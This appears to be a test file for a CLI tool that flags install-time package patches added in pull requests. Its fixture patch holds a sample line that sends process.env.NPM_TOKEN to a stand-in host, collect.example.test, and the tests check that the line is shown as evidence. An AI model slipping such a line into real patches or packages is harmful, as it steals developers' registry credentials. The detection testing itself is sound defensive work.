// Install-time patches change installed code without a new tarball: a patch the PR adds or changes is a
// finding with the patch as evidence. Real git repositories in temp folders, the CLI.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { patchedPackageOf } from '../../src/checks/lockfile/install-patch.js';
import { twoCommitRepo } from '../helpers/run-cli.js';
import { runCliSource } from '../helpers/run-cli-source.js';

const roots: string[] = [];
afterAll(() => roots.forEach((root) => rmSync(root, { recursive: true, force: true })));

const MANIFEST = `${JSON.stringify({ name: 'app', version: '1.0.0', scripts: { postinstall: 'patch-package' } })}\n`;
const PATCH = [
  'diff --git a/node_modules/left-pad/index.js b/node_modules/left-pad/index.js',
  '--- a/node_modules/left-pad/index.js',
  '+++ b/node_modules/left-pad/index.js',
  '@@ -1,3 +1,4 @@',
  "+require('https').get('https://collect.example.test/?t=' + process.env.NPM_TOKEN);",
  ' module.exports = leftPad;',
  '',
].join('\n');

function repo(base: Record<string, string>, head: Record<string, string | null>): string {
  const root = mkdtempSync(join(tmpdir(), 'depdiff-patches-'));
  roots.push(root);
  return twoCommitRepo(root, base, head);
}

interface JsonChange {
  name: string;
  from: string | null;
  to: string | null;
  findings: Array<{ kind: string; severity: string; message: string; file?: string; evidence?: string }>;
}

async function patchFindings(root: string, args: string[] = ['--head-ref', 'HEAD']) {
  const result = await runCliSource(['--base-ref', 'HEAD~1', ...args, '--no-fetch', '--format', 'json', '-q'], root);
  expect(result.stderr).toBe('');
  const report = JSON.parse(result.stdout) as { changes: JsonChange[] };
  return { code: result.code, found: report.changes.flatMap((change) => change.findings.filter((f) => f.kind === 'install-patch').map((f) => ({ ...f, change }))) };
}

test('patch-package: an added patches/*.patch is a finding with the patch text as evidence', async () => {
  const root = repo({ 'package.json': MANIFEST }, { 'patches/left-pad+1.3.0.patch': PATCH });
  const { code, found } = await patchFindings(root);
  expect(found).toHaveLength(1);
  expect(found[0]).toMatchObject({ severity: 'medium', file: 'patches/left-pad+1.3.0.patch' });
  expect(found[0].change).toMatchObject({ name: 'left-pad', from: '1.3.0', to: '1.3.0' });
  expect(found[0].message).toContain('adds a patch that rewrites left-pad@1.3.0 at install time');
  expect(found[0].evidence).toContain("+require('https').get('https://collect.example.test/?t=' + process.env.NPM_TOKEN);");
  expect(code).toBe(0); // medium: visible, under the default fail-on
});

test('pnpm patchedDependencies and yarn patch: files, changed or added, in the working tree too', async () => {
  const root = repo(
    { 'package.json': MANIFEST, 'patches/@scope__pkg@2.0.0.patch': PATCH },
    { 'patches/@scope__pkg@2.0.0.patch': `${PATCH}+// more\n`, '.yarn/patches/lodash-npm-4.17.21-6382451519.patch': PATCH },
  );
  const { found } = await patchFindings(root);
  expect(found.map((f) => [f.change.name, f.change.to, f.file])).toEqual([
    ['lodash', '4.17.21', '.yarn/patches/lodash-npm-4.17.21-6382451519.patch'],
    ['@scope/pkg', '2.0.0', 'patches/@scope__pkg@2.0.0.patch'],
  ]);
  expect(found.find((f) => f.change.name === '@scope/pkg')!.message).toContain('changes the patch');

  writeFileSync(join(root, 'patches/extra+1.0.0.patch'), PATCH);
  const workingTree = await patchFindings(root, []);
  expect(workingTree.found.map((f) => f.change.name)).toContain('extra');
});

test('a deleted patch, an unchanged patch and .patch files outside a patches folder are not reported', async () => {
  const root = repo(
    { 'package.json': MANIFEST, 'patches/a+1.0.0.patch': PATCH, 'patches/b+1.0.0.patch': PATCH },
    { 'patches/a+1.0.0.patch': null, 'debian/fix.patch': PATCH, 'node_modules/x/patches/y.patch': PATCH, 'README.md': 'x' },
  );
  expect((await patchFindings(root)).found).toEqual([]);
});

test('a long patch is cut with a pointer to the full file', async () => {
  const long = `${PATCH}${Array.from({ length: 500 }, (_, i) => `+line ${i}`).join('\n')}\n`;
  const root = repo({ 'package.json': MANIFEST }, { 'patches/left-pad+1.3.0.patch': long });
  const [finding] = (await patchFindings(root)).found;
  expect(finding.evidence!.split('\n').length).toBeLessThanOrEqual(61);
  expect(finding.evidence).toMatch(/… \(\d+ lines in all: read the file in the pull request\)$/);
});

test.each([
  ['patches/left-pad+1.3.0.patch', { name: 'left-pad', version: '1.3.0' }],
  ['patches/@babel+core+7.24.0.patch', { name: '@babel/core', version: '7.24.0' }],
  ['patches/left-pad+1.3.0+dev.patch', { name: 'left-pad', version: '1.3.0' }],
  ['patches/is-odd@3.0.1.patch', { name: 'is-odd', version: '3.0.1' }],
  ['patches/@scope__pkg@2.0.0.patch', { name: '@scope/pkg', version: '2.0.0' }],
  ['patches/is-odd.patch', { name: 'is-odd', version: null }],
  ['.yarn/patches/lodash-npm-4.17.21-6382451519.patch', { name: 'lodash', version: '4.17.21' }],
])('%s patches %o', (path, expected) => {
  expect(patchedPackageOf(path)).toEqual(expected);
});
